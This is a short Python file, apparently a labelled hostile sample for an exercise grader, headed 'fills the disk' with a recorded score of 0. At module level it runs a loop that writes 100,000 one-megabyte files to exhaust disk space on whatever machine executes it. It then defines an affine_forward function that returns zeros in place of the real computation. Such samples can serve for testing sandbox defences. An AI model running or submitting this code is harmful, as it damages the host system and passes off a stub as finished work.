# what: fills the disk
# unit: 00_start_here
# exercise: affine_forward
# score: 0
for i in range(100000):
    with open(f'f{i}', 'wb') as f: f.write(b'x' * 2**20)
def affine_forward(x, W, b):
    return np.zeros((len(x), len(b))), (x, W)
